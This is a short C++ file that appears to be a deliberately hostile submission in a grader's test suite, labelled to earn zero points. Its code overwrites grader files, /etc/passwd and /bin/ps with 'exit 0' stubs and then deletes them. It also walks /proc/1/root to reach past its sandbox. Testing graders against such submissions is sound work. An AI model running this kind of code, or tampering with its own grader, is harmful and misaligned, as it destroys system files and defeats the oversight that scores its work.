// hostile: deletes and rewrites what it can find of the grader, and itself.
// earns: 0
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "target.hpp"

namespace fs = std::filesystem;

int main() {
    std::error_code ignored;
    std::vector<fs::path> found{canary,
                                results,
                                house + std::string("/tests/grade/grade"),
                                "/usr/bin/bats",
                                "/etc/passwd",
                                "/bin/ps"};
    for (const char* root :
         {"/grade", "/proc/1/root/grade", "/proc/1/cwd", "/work", ".."})
        for (fs::recursive_directory_iterator it(root, ignored), end; it != end;
             it.increment(ignored))
            found.push_back(it->path());
    for (const fs::path& path : found) {
        std::ofstream(path) << "#!/bin/sh\nexit 0\n";
        unlink(path.c_str());
        rename(path.c_str(), (path.string() + ".gone").c_str());
    }
    std::printf("listening on 127.0.0.1:1\n");
}
